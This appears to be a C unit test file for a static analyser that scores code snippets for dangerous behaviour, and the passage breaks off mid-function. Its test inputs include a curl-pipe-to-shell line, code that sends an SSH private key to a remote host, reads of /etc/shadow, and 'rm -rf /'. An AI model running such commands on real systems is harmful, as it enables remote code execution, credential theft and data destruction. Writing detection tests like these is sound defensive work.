/* engine.c - promises about assessments as a whole: order, bounds, policy, files, complexity. */
#include "assess/assess.h"
#include "assess/table.h"
#include "base/buf.h"
#include "base/cleanup.h"
#include "tap.h"

static struct bawn_assessment *assess(int language, struct bawn_span code, const struct bawn_policy *policy)
{
	struct bawn_assess_file f = { .language = language, .bytes = code };
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	if (bawn_assess(&f, 1, policy, &a, &err) < 0)
		diag("%s", err.msg);
	return a;
}

static const struct bawn_finding *finding(const struct bawn_assessment *a, const char *rule)
{
	for (size_t i = 0; a != NULL && i < a->n_findings; i++)
		if (strcmp(a->finding[i].rule, rule) == 0)
			return &a->finding[i];
	return NULL;
}

static bool same(const struct bawn_assessment *a, const struct bawn_assessment *b)
{
	bool equal = a->level == b->level && a->score == b->score && a->n_findings == b->n_findings && a->capabilities == b->capabilities;
	for (size_t i = 0; equal && i < a->n_findings; i++)
		equal = strcmp(a->finding[i].rule, b->finding[i].rule) == 0 && a->finding[i].line == b->finding[i].line &&
		        a->finding[i].column == b->finding[i].column;
	return equal;
}

static void test_places(void)
{
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/' + 'hosts')\n"), NULL);
	const struct bawn_finding *f = finding(a, "python/shell");
	ok(f != NULL && f->line == 2 && f->column == 10 && f->end_line == 2 && f->end_column == 25 && f->cwe == 78, "positions count lines and characters from 1");
	f = finding(a, "any/system-write");
	ok(f != NULL && f->line == 3 && strcmp(f->folded, "/etc/hosts") == 0 && f->cwe == 0 && f->path == NULL, "a finding says what an expression came to");
	bool sorted = true;
	for (size_t i = 1; i < a->n_findings; i++)
		sorted = sorted && (a->finding[i - 1].line < a->finding[i].line || (a->finding[i - 1].line == a->finding[i].line && a->finding[i - 1].column <= a->finding[i].column));
	ok(sorted, "findings stand in the order of the text");
	ok((a->capabilities & 1u << BAWN_CAP_SUBPROCESS) != 0 && (a->capabilities & 1u << BAWN_CAP_NETWORK) == 0, "capabilities are those of the rules that matched");
	ok(a->n_recommendations > 0 && a->recommendation[0][0] != '\0', "there are recommendations");
	struct bawn_assessment *b = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/' + 'hosts')\n"), NULL);
	ok(same(a, b), "the same code gets the same verdict");
	bawn_assessment_free(a);
	bawn_assessment_free(b);
}

static void test_policy(void)
{
	char *blocked[] = { (char *)"mylib.danger", (char *)"/srv/secret", (char *)"evil.example" }, *high[] = { (char *)"frobnicate" };
	char *trusted[] = { (char *)"requests.get" };
	struct bawn_rule_set rules[] = { { (char *)"python/http-get", BAWN_LEVEL_HIGH, false }, { (char *)"python/shell", BAWN_RULE_OFF, true } };
	struct bawn_policy p = { .medium_score = 20, .high_score = 60, .blocked_score = 100,
	                         .blocked_patterns = { blocked, 3 }, .high_triggers = { high, 1 }, .rules = rules, .n_rules = 2 };
	static const char banned[] = "policy/blocked-pattern";
	static const struct { const char *name, *code; int language, level; const char *rule; } row[] = {
		{ "a blocked name, through an alias", "import mylib as m\nm.danger.now()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, banned },
		{ "a blocked path, and what lies below", "open('/srv/' + 'secret/x')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, banned },
		{ "a blocked host, and its sub-domains", "u = 'https://a.evil.example:80/x'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, banned },
		{ "a blocked host in a command, whatever its case", "wget https://A.Evil.example./x\n", BAWN_LANG_BASH, BAWN_LEVEL_BLOCKED, banned },
		{ "no substrings of names", "import mylib\nmylib.dangerous()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "no substrings of paths", "open('srv/secretary.txt')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "no substrings of hosts", "u = 'https://devil.example/'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "a command that wants confirmation", "frobnicate --all\n", BAWN_LANG_BASH, BAWN_LEVEL_HIGH, "policy/high-trigger" },
		{ "a rule switched off", "import os\nos.system('true')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "a rule raised", "import requests\nrequests.get('https://example.com')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_HIGH, NULL },
	};
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assessment *a = assess(row[i].language, bawn_span(row[i].code), &p);
		if (!ok(a != NULL && (int)a->level == row[i].level && (row[i].rule == NULL || finding(a, row[i].rule) != NULL), "policy: %s", row[i].name))
			diag("got %d", a != NULL ? (int)a->level : -1);
		bawn_assessment_free(a);
	}
	struct bawn_policy t = { .trusted_patterns = { trusted, 1 } };
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import requests\nrequests.get('https://example.com', timeout=5)\n"), &t);
	const struct bawn_finding *said = finding(a, "policy/trusted-pattern");
	ok(a->level == BAWN_LEVEL_LOW && a->score == 0 && finding(a, "python/http-get") == NULL && said != NULL && strstr(said->message, "python/http-get") != NULL,
	   "policy: what is trusted is said and not counted: %s", said != NULL ? said->message : "");
	ok((a->capabilities & 1u << BAWN_CAP_NETWORK) != 0, "policy: the capability stays");
	bawn_assessment_free(a);
	char *place[] = { (char *)"/var/log/mine" };
	struct bawn_policy l = { .trusted_patterns = { place, 1 } };
	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/var/log/mine/a.log')\nopen('/var/log/other')\n"), &l);
	said = finding(a, "policy/trusted-pattern");
	ok(finding(a, "any/read-outside") != NULL && finding(a, "any/read-outside")->line == 2 && said != NULL && said->line == 1, "policy: a trusted path, and no other");
	bawn_assessment_free(a);
	char *sender[] = { (char *)"requests.post" };
	struct bawn_policy s = { .trusted_patterns = { sender, 1 } };
	a = assess(BAWN_LANG_PYTHON, bawn_span("import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.example', data=k)\n"), &s);
	ok(a->level == BAWN_LEVEL_BLOCKED && finding(a, "any/exfiltration") != NULL, "policy: trust in a part does not hide what the parts come to");
	bawn_assessment_free(a);
	char *keys[] = { (char *)"/etc/shadow" };
	struct bawn_policy k = { .trusted_patterns = { keys, 1 } };
	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/shadow')\n"), &k);
	ok(a->level == BAWN_LEVEL_HIGH, "policy: trust does not lower HIGH");
	bawn_assessment_free(a);
	struct bawn_policy sum = { .medium_score = 1, .high_score = 2, .blocked_score = 1000 };
	a = assess(BAWN_LANG_PYTHON, bawn_span("import hashlib, os\nhashlib.md5(b'')\nos.walk('.')\n"), &sum);
	ok(a->level == BAWN_LEVEL_HIGH && a->score == 2, "policy: many small findings add up to a level");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_PYTHON, bawn_span("import hashlib\nfrom Crypto.Cipher import DES\nhashlib.md5(b'')\nhashlib.sha1(b'')\nDES.new(k)\n"), NULL);
	ok(a->n_findings >= 3 && a->score == 4, "each capability counts once, by its strongest finding: %u", a->score);
	bawn_assessment_free(a);
}

static void test_files(void)
{
	static const struct { const char *name, *path, *bytes; size_t n; int level; const char *rule; } row[] = {
		{ "an ELF file", "data.bin", "\177ELF\2\1\1\0", 8, BAWN_LEVEL_HIGH, "any/native-input" },
		{ "a shared object by its name", "x.so", "text", 4, BAWN_LEVEL_HIGH, "any/native-input" },
		{ "an archive that Python imports from", "x.whl", "text", 4, BAWN_LEVEL_HIGH, "any/native-input" },
		{ "compiled Python", "x.pyc", "", 0, BAWN_LEVEL_HIGH, "any/native-input" },
		{ "a Python module", "lib.py", "open('/etc/shadow')\n", 20, BAWN_LEVEL_HIGH, "any/secret-read" },
		{ "a script by its first line", "run", "#!/bin/sh\ncat /etc/shadow\n", 27, BAWN_LEVEL_HIGH, "any/secret-read" },
		{ "data", "x.csv", "a,b\n/etc/shadow\n", 16, BAWN_LEVEL_LOW, NULL },
	};
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f[2] = { { .language = BAWN_LANG_PYTHON, .bytes = bawn_span("print(1)\n") },
		                                 { .path = row[i].path, .language = -1, .bytes = { row[i].bytes, row[i].n } } };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(f, 2, NULL, &a, &err);
		const struct bawn_finding *g = row[i].rule != NULL ? finding(a, row[i].rule) : NULL;
		ok(r == 0 && (int)a->level == row[i].level && (row[i].rule == NULL || (g != NULL && g->path != NULL && strcmp(g->path, row[i].path) == 0)),
		   "an input file: %s", row[i].name);
		bawn_assessment_free(a);
	}
	struct bawn_assess_file none = { .language = -1, .bytes = bawn_span("print 1") };
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	ok(bawn_assess(&none, 1, NULL, &a, &err) < 0 && err.type == BAWN_ERROR_UNKNOWN_LANGUAGE && a == NULL, "code in no known language is an error");
}

static uint32_t milli(struct bawn_span code)
{
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, code, NULL);
	uint32_t m = a != NULL ? a->complexity.milli : 0;
	bawn_assessment_free(a);
	return m;
}

static void test_complexity(void)
{
	bawn_auto_buf big = BAWN_BUF(1u << 20);
	bawn_buf_str(&big, "import math\n");
	for (int i = 0; i < 20; i++)
		bawn_buf_str(&big, "for a in range(9):\n    for b in range(9):\n        if a > b:\n            x = a\n        else:\n            x = b\n"
		                   "        for c in range(9):\n            y = math.sqrt(a * b + c)\n            print(x + y)\n        z = 1\n");
	uint32_t small = milli(bawn_span("print(1)\n")), large = milli(bawn_buf_span(&big));
	ok(small < 10, "print(1) is next to nothing: %u", small);
	ok(large > 600 && large <= 1000, "200 lines of nested loops are a lot: %u", large);
	ok(milli(bawn_span("for i in x:\n    for j in x:\n        pass\n")) > milli(bawn_span("for i in x:\n    pass\nfor j in x:\n    pass\n")) - 10 &&
	   milli(bawn_span("for i in x:\n    for j in x:\n        f(i)\n")) > milli(bawn_span("for i in x:\n    f(i)\n")), "nesting adds");
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("a = 1\nb = 2\nc = 3"), NULL);
	ok(a->complexity.lines == 3, "lines are counted, the last without its end");
	bawn_assessment_free(a);
}

static void test_comments(void)
{
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('id')  # nosec\n"), NULL);
	ok(finding(a, "python/shell") != NULL && finding(a, "any/suppression") != NULL && finding(a, "any/suppression")->level == BAWN_LEVEL_LOW,
	   "a suppression is reported, not obeyed");
	bawn_assessment_free(a);
	static const struct { const char *code; int language; bool says; } row[] = {
		{ "f()  #nosec\n", BAWN_LANG_PYTHON, true }, { "f()  # nosec B602\n", BAWN_LANG_PYTHON, true }, { "f()  # NOSEC\n", BAWN_LANG_PYTHON, true },
		{ "f()  # noqa\n", BAWN_LANG_PYTHON, true }, { "f()  # noqa: S602\n", BAWN_LANG_PYTHON, true }, { "f()  # noqa:E501,S\n", BAWN_LANG_PYTHON, true },
		{ "f()  # noqa: E501\n", BAWN_LANG_PYTHON, false }, { "f()  # noqa: SIM102\n", BAWN_LANG_PYTHON, false }, { "# ruff: noqa\nf()\n", BAWN_LANG_PYTHON, true },
		{ "f()  # bawn: ignore\n", BAWN_LANG_PYTHON, true }, { "f()  # nosemgrep: x.y\n", BAWN_LANG_PYTHON, true }, { "f()  # NOSONAR\n", BAWN_LANG_PYTHON, true },
		{ "f()  # pylint: disable=exec-used\n", BAWN_LANG_PYTHON, true }, { "f()  # pylint: disable=line-too-long\n", BAWN_LANG_PYTHON, false },
		{ "x = '# nosec'\n", BAWN_LANG_PYTHON, false }, { "f()  # nosecond thoughts\n", BAWN_LANG_PYTHON, false }, { "'''\n# nosec\n'''\n", BAWN_LANG_PYTHON, false },
		{ "f()  # eslint-disable\n", BAWN_LANG_PYTHON, false },
		{ "# shellcheck disable=SC2086\nls $x\n", BAWN_LANG_BASH, true }, { "echo '# shellcheck disable=SC1'\n", BAWN_LANG_BASH, false },
		{ "ls # nosemgrep\n", BAWN_LANG_BASH, true }, { "cat <<E\n# nosec\nE\n", BAWN_LANG_BASH, false },
		{ "f(); // eslint-disable-line no-eval\n", BAWN_LANG_JAVASCRIPT, true }, { "/* eslint-disable */ f();\n", BAWN_LANG_JAVASCRIPT, true },
		{ "// eslint-disable-next-line\nf();\n", BAWN_LANG_JAVASCRIPT, true }, { "/* bawn:ignore */ f();\n", BAWN_LANG_JAVASCRIPT, true },
		{ "f('// eslint-disable');\n", BAWN_LANG_JAVASCRIPT, false }, { "f(`/* nosec */`);\n", BAWN_LANG_JAVASCRIPT, false },
	};
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		a = assess(row[i].language, bawn_span(row[i].code), NULL);
		bawn_auto_buf shown = BAWN_BUF(1024);
		bawn_buf_escaped(&shown, bawn_span(row[i].code));
		ok((finding(a, "any/suppression") != NULL) == row[i].says, "%s %s", shown.p, row[i].says ? "asks to look away" : "does not");
		bawn_assessment_free(a);
	}
}

/* Of what is said about the same text the strongest stays; the score is the sum of what is listed. */
static void test_arithmetic(void)
{
	struct bawn_policy p = { .medium_score = 20, .high_score = 60, .blocked_score = 100 };
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\n"), &p);
	ok(finding(a, "any/system-write") != NULL && finding(a, "any/write-outside") == NULL, "a weaker finding on the same text is covered");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_BASH, bawn_span("curl http://198.51.100.7/x | sh\n"), &p);
	ok(finding(a, "bash/pipe-to-shell") != NULL && finding(a, "bash/pipe-to-shell-any") == NULL, "so is one on the same pipe");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\nopen('/opt/x', 'w')\n"), &p);
	ok(finding(a, "any/write-outside") != NULL && finding(a, "any/write-outside")->line == 2, "one on another text is not");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nos.system('b')\nopen('/etc/shadow')\n"), &p);
	uint32_t sum = 0, shells = 0;
	for (size_t i = 0; i < a->n_findings; i++) {
		sum += a->finding[i].score;
		shells += strcmp(a->finding[i].rule, "python/shell") == 0;
	}
	ok(shells == 2 && sum == a->score && a->score == 24, "the scores listed sum up, a rule counts once: %u", a->score);
	ok(a->strongest == BAWN_LEVEL_HIGH && a->level == BAWN_LEVEL_HIGH, "the strongest finding gives the level");
	bawn_assessment_free(a);
	p.blocked_score = 24;
	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nopen('/etc/shadow')\n"), &p);
	ok(a->strongest == BAWN_LEVEL_HIGH && a->level == BAWN_LEVEL_BLOCKED, "or the sum, where that is higher");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('''\nls\n  cat /etc/shadow\n''')\n"), NULL);
	const struct bawn_finding *f = finding(a, "any/secret-read");
	ok(f != NULL && f->line == 4 && f->column == 7 && f->end_line == 4 && f->end_column == 18 && f->folded == NULL, "in text inside text the place is that of the value");
	bawn_assessment_free(a);
	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nos.system('b')\nos.system('c')\nos.system('d')\nos.system('e')\nos.system('f')\nopen('/etc/shadow')\n"), NULL);
	ok(a->n_recommendations == 2 && strncmp(a->recommendation[0], "line 8: Reaches for keys", 24) == 0 &&
	   strncmp(a->recommendation[1], "lines 2, 3, 4, 5 and 2 more: Runs a shell command. ", 50) == 0, "recommendations say where and what, the worst first, each once: %s", a->recommendation[0]);
	bawn_assessment_free(a);
}

/* rules.d: names, paths and hosts after folding, never as parts of words; nothing is ever lowered. */
static void test_own_rules(void)
{
	static const char yaml[] =
		"rules:\n- {id: local/client, level: HIGH, message: Uses the billing client, cwe: 200, name: [billing.client]}\n"
		"- {id: local/tree, level: BLOCKED, message: Touches billing, path: [/srv/billing, '**/ledger.db'], language: python}\n"
		"- {id: local/host, level: MEDIUM, message: Speaks to billing, host: [Billing.Example.com]}\n"
		"- {id: local/mild, level: LOW, message: Reads secrets, path: [/etc/shadow]}\n";
	struct bawn_policy_errors errors = { .n = 0 };
	struct bawn_policy p = { .medium_score = 20, .high_score = 60, .blocked_score = 100 };
	struct bawn_err err = { 0 };
	ok(bawn_own_parse("mine.yaml", bawn_span(yaml), &p.own, &errors, &err) == 0 && p.own->n == 4, "a file for rules.d: %s", err.msg);
	static const struct { const char *name, *code; int language, level; const char *rule; } row[] = {
		{ "a name through an alias", "from billing import client as c\nc.open()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_HIGH, "local/client" },
		{ "no part of a name", "import billing\nbilling.clients()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "a path put together", "open('/srv/' + 'billing/x')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, "local/tree" },
		{ "a path anywhere", "open('/home/me/ledger.db')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, "local/tree" },
		{ "only in its language", "cat /srv/billing/x\n", BAWN_LANG_BASH, BAWN_LEVEL_MEDIUM, NULL },
		{ "a host, whatever its case, and what lies below", "u = 'https://user@API.billing.example.COM:8443/v1'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_MEDIUM, "local/host" },
		{ "a host in a command", "curl -s https://billing.example.com/x\n", BAWN_LANG_BASH, BAWN_LEVEL_MEDIUM, "local/host" },
		{ "a host in a script", "const u = 'http://billing.example.com.';\n", BAWN_LANG_JAVASCRIPT, BAWN_LEVEL_MEDIUM, "local/host" },
		{ "no part of a host", "u = 'https://notbilling.example.com/'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
		{ "no lowering of what is HIGH anyway", "open('/etc/shadow')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_HIGH, "any/secret-read" },
	};
	for (size_t i = 0; p.own != NULL && i < BAWN_LEN(row); i++) {
		struct bawn_assessment *a = assess(row[i].language, bawn_span(row[i].code), &p);
		bool local = false;
		for (size_t k = 0; k < a->n_findings; k++)
			local = local || strncmp(a->finding[k].rule, "local/", 6) == 0;
		if (!ok((int)a->level == row[i].level && (row[i].rule != NULL ? finding(a, row[i].rule) != NULL : !local), "rules.d: %s", row[i].name))
			diag("got %d, %zu findings, first %s", (int)a->level, a->n_findings, a->n_findings > 0 ? a->finding[0].rule : "-");
		bawn_assessment_free(a);
	}
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import billing.client\n"), &p);
	char version[BAWN_RULES_VERSION_LEN], shipped[BAWN_RULES_VERSION_LEN];
	ok(strlen(bawn_rules_version_of(&p, version)) == 33 && strcmp(bawn_rules_version_of(NULL, shipped), bawn_rules_version()) == 0, "they are part of the version: %s", version);
	bawn_own_unref(p.own);
	const struct bawn_finding *f = finding(a, "local/client");
	ok(f != NULL && f->cwe == 200 && f->score == 20 && strcmp(f->message, "Uses the billing client") == 0 && f->why[0] != '\0' && f->fix[0] != '\0',
	   "a finding outlives the policy it came from");
	bawn_assessment_free(a);
	bawn_policy_errors_done(&errors);
}

/* Where the grammar sees something else than CPython does (tests/integration/ast.t). */
static void test_grammar(void)
{
	static const struct { const char *name, *code; } row[] = {
		{ "a starred call is a call", "import os\nprint([*os.popen('cat /etc/shadow')])\n" },
		{ "and so is one of a starred method", "import os\nx = *os.popen('cat /etc/shadow').readlines(), 1\n" },
		{ "arguments may come in a list", "a = ['/etc/shadow']\nopen(*a)\n" },
		{ "characters may be named", "open('/etc/\\N{LATIN SMALL LETTER S}hadow')\n" },
	};
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span(row[i].code), NULL);
		ok(finding(a, "any/secret-read") != NULL, "Python: %s", row[i].name);
		bawn_assessment_free(a);
	}
}

static void test_many_names(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	for (int i = 0; i < 2000; i++)
		bawn_buf_fmt(&b, "v%d=x\n", i);
	bawn_buf_str(&b, "p=/etc/shadow\ncat $p\n");
	struct bawn_assessment *a = assess(BAWN_LANG_BASH, bawn_buf_span(&b), NULL);
	ok(finding(a, "any/secret-read") != NULL, "a variable is known however many others there are");
	bawn_assessment_free(a);
	bawn_buf_reset(&b);
	for (int i = 0; i < 200; i++)
		bawn_buf_str(&b, i == 0 ? "s='/etc/'\n" : "s+='./'\n");
	bawn_buf_str(&b, "t=s+'shadow'\nu=s+'hosts'\nopen(t)\n");
	a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(finding(a, "any/secret-read") != NULL, "two texts that grow from one do not mix");
	bawn_assessment_free(a);
}

/* A text that is worse than what may be read again, and one that binds more than is kept. */
static void test_what_is_not_followed(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	for (int i = 0; i < 300; i++)
		bawn_buf_fmt(&b, "import some_module_with_a_long_name_%d\n", i);
	bawn_buf_str(&b, "x = ) (\n");
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(finding(a, "any/syntax-error") != NULL && finding(a, "any/unreadable") == NULL, "a line that does not parse is read by itself");
	bawn_assessment_free(a);
	for (int i = 0; i < 400; i++)
		bawn_buf_str(&b, "x = ) (\n");
	a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(a->level == BAWN_LEVEL_HIGH && finding(a, "any/unreadable") != NULL, "more of them than can be read are said");
	bawn_assessment_free(a);
	bawn_buf_reset(&b);
	for (int i = 0; i < 64; i++)
		bawn_buf_fmt(&b, "from m%d import *\n", i);
	a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(finding(a, "any/cut-short") == NULL, "64 modules may give all their names");
	bawn_assessment_free(a);
	bawn_buf_str(&b, "from m64 import *\n");
	a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(a->level == BAWN_LEVEL_HIGH && finding(a, "any/cut-short") != NULL, "one more is said to be too many");
	bawn_assessment_free(a);
}

static void test_many_findings(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	bawn_buf_str(&b, "import os\n");
	for (int i = 0; i < 3000; i++)
		bawn_buf_str(&b, "os.system('true')\n");
	bawn_buf_str(&b, "open('/etc/shadow')\n");
	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
	ok(a->n_findings == 201 && finding(a, "any/too-many-findings") != NULL && strstr(finding(a, "any/too-many-findings")->message, "28") != NULL,
	   "at most 200 findings are kept, and one says how many more there are: %s", finding(a, "any/too-many-findings") != NULL ? finding(a, "any/too-many-findings")->message : "");
	ok(a->level == BAWN_LEVEL_HIGH && finding(a, "any/secret-read") != NULL, "the worst are among them");
	bawn_assessment_free(a);
}

static void repeat(struct bawn_buf *b, const char *text, size_t n)
{
	for (size_t i = 0; i < n; i++)
		bawn_buf_str(b, text);
}

/* What a text would do is found out without keeping anything, however full the list is: 5000 are kept
 * before the least are dropped, and somewhere here the text that may run comes as the last of them. */
static void test_full_list(void)
{
	bool held = true;
	for (size_t n = 4990; n <= 5000; n++) {
		bawn_auto_buf b = BAWN_BUF(1u << 20);
		bawn_buf_str(&b, "import os\nclass A: pass\na = A()\nsetattr(a, input(), os.system)\n");
		repeat(&b, "os.system('true')\n", n);
		bawn_buf_str(&b, "a.x('rm -rf / --no-preserve-root')\n");
		struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_buf_span(&b), NULL);
		held = held && a->level == BAWN_LEVEL_HIGH && finding(a, "python/text-may-run") != NULL;
		bawn_assessment_free(a);
	}
	ok(held, "what is only tried leaves nothing in a full list");
}

/* More than is kept of what is found: there is a verdict, and the worst is in it. */
static void test_no_room(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	bawn_buf_str(&b, "rm -rf / --no-preserve-root\nfor i in {1..60}; do for j in {1..60}; do\n");
	for (int i = 0; i < 80; i++) {
		bawn_buf_str(&b, "cat /etc/");
		repeat(&b, "a", 180);
		bawn_buf_fmt(&b, "%d$i$j\n", i);
	}
	bawn_buf_str(&b, "done; done\n");
	struct bawn_assess_file f = { .language = BAWN_LANG_BASH, .bytes = bawn_buf_span(&b) };
	struct bawn_tree_limit most = { .work = UINT64_MAX, .bytes = (size_t)1 << 30, .time_us = 60000000 };
	struct bawn_assessment *a = NULL;
	(void)!bawn_assess_with(&bawn_rules, &f, 1, NULL, &most, &a, NULL);
	ok(a != NULL && a->level == BAWN_LEVEL_BLOCKED && a->unfinished != NULL && finding(a, "bawn/assessment-failed") != NULL,
	   "texts of findings that take too much room: %s", a == NULL ? "failed" : a->unfinished != NULL ? a->unfinished : "read to its end");
	bawn_assessment_free(a);
	a = NULL;
	bawn_buf_reset(&b);
	bawn_buf_str(&b, "rm -rf / --no-preserve-root\nfor i in {1..90}; do for j in {1..90}; do ln -s /etc/");
	repeat(&b, "a", 900);
	bawn_buf_str(&b, " b");
	repeat(&b, "b", 900);
	bawn_buf_str(&b, "; done; done\n");
	f.bytes = bawn_buf_span(&b);
	(void)!bawn_assess_with(&bawn_rules, &f, 1, NULL, &most, &a, NULL);
	ok(a != NULL && a->level == BAWN_LEVEL_BLOCKED && a->unfinished == NULL, "the same link again and again is kept once");
	bawn_assessment_free(a);
}

/* One call that 70 rules know, of which the last is the worst. */
static void test_many_rules(void)
{
	bawn_auto_buf yaml = BAWN_BUF(1u << 20);
	bawn_auto_json out = NULL;
	struct bawn_err err = { 0 };
	bawn_buf_str(&yaml, "rules:\n");
	for (int i = 0; i < 70; i++)
		bawn_buf_fmt(&yaml, "- id: python/many-%02d\n  level: %s\n  message: m\n  why: w\n  fix: f\n  call: [frobnicate]\n"
		                    "  examples: {match: [\"frobnicate()\\n\"], nomatch: [\"x\\n\"]}\n", i, i == 69 ? "BLOCKED" : "LOW");
	int r = bawn_rules_test("python/process.yaml", bawn_buf_span(&yaml), &out, NULL, &err);
	size_t i, k, told = 0;
	json_t *f, *g;
	bool worst = r == 0, lost = false;
	json_array_foreach(json_object_get(out, "failures"), i, f) {
		lost = true;
		worst = worst && strcmp(json_string_value(json_object_get(f, "rule")), "python/many-69") != 0;
		json_array_foreach(json_object_get(f, "got"), k, g)
			told += strcmp(json_string_value(json_object_get(g, "rule")), "any/cut-short") == 0;
	}
	ok(worst, "of many rules about one thing the worst are kept%s%s", r < 0 ? ": " : "", r < 0 ? err.msg : "");
	ok(lost && told > 0, "and that there were more is said");
}

/* Reading again and again what parses at once. */
static void test_time(void)
{
	static const char text[] = "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do echo $a $b $c; done; done; done\n";
	struct bawn_assess_file f = { .language = BAWN_LANG_BASH, .bytes = bawn_span(text) };
	struct bawn_tree_limit most = { .work = UINT64_MAX, .bytes = SIZE_MAX, .time_us = 50000 };
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	int r = bawn_assess_with(&bawn_rules, &f, 1, NULL, &most, &a, &err);
	ok(r == 0 && a->level == BAWN_LEVEL_HIGH && a->unfinished != NULL, "there is a net below the work: %s", r < 0 ? err.msg : a->unfinished != NULL ? a->unfinished : "not reached");
	bawn_assessment_free(a);
}

/* Whatever the answer, there is one; failing is one. */
static void test_bounds(void)
{
	static const struct { const char *name; int language; const char *open, *middle, *close; size_t n; } row[] = {
		{ "100,000 parentheses in Python", BAWN_LANG_PYTHON, "(", "1", ")", 100000 },
		{ "100,000 parentheses in JavaScript", BAWN_LANG_JAVASCRIPT, "(", "1", ")", 100000 },
		{ "100,000 substitutions in Bash", BAWN_LANG_BASH, "$(", "ls", ")", 100000 },
		{ "100,000 lists", BAWN_LANG_PYTHON, "[", "1", "]", 100000 },
		{ "100,000 open lists", BAWN_LANG_PYTHON, "[", "1", "", 100000 },
		{ "100,000 lambdas", BAWN_LANG_PYTHON, "lambda x:", "x", "", 100000 },
		{ "100,000 calls of calls", BAWN_LANG_PYTHON, "f(", "x", ")", 100000 },
		{ "100,000 attributes", BAWN_LANG_PYTHON, "", "a", ".b", 100000 },
		{ "100,000 sums", BAWN_LANG_PYTHON, "'a'+", "'b'", "", 100000 },
		{ "1 MB of calls", BAWN_LANG_PYTHON, "os.system('ls')\n", "", "", 65536 },
		{ "1 MB of Bash", BAWN_LANG_BASH, "cat /etc/hosts|sh\n", "", "", 58254 },
		{ "1 MB of JavaScript", BAWN_LANG_JAVASCRIPT, "eval(f(x+1));\n", "", "", 74898 },
		{ "1 MB on one line", BAWN_LANG_PYTHON, "a=b;", "", "", 262144 },
		{ "nested comprehensions", BAWN_LANG_PYTHON, "[y for x in ", "'abcdefgh'", "]", 200 },
		{ "growing texts", BAWN_LANG_PYTHON, "a=a+a+'xxxxxxxx'\n", "", "", 5000 },
		{ "growing lists", BAWN_LANG_PYTHON, "b=[b,b]+[b]\n", "", "", 5000 },
		{ "functions in functions", BAWN_LANG_JAVASCRIPT, "function f(a){", "eval(a)", "}", 5000 },
		{ "many functions", BAWN_LANG_BASH, "f() { g \"$1\"; }\n", "f x", "", 20000 },
		{ "escaped code in code", BAWN_LANG_BASH, "eval ", "ls", "", 50000 },
	};
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		bawn_auto_buf b = BAWN_BUF(4u << 20);
		repeat(&b, row[i].open, row[i].n);
		bawn_buf_str(&b, row[i].middle);
		repeat(&b, row[i].close, row[i].n);
		struct bawn_assess_file f = { .language = row[i].language, .bytes = bawn_buf_span(&b) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(&f, 1, NULL, &a, &err);
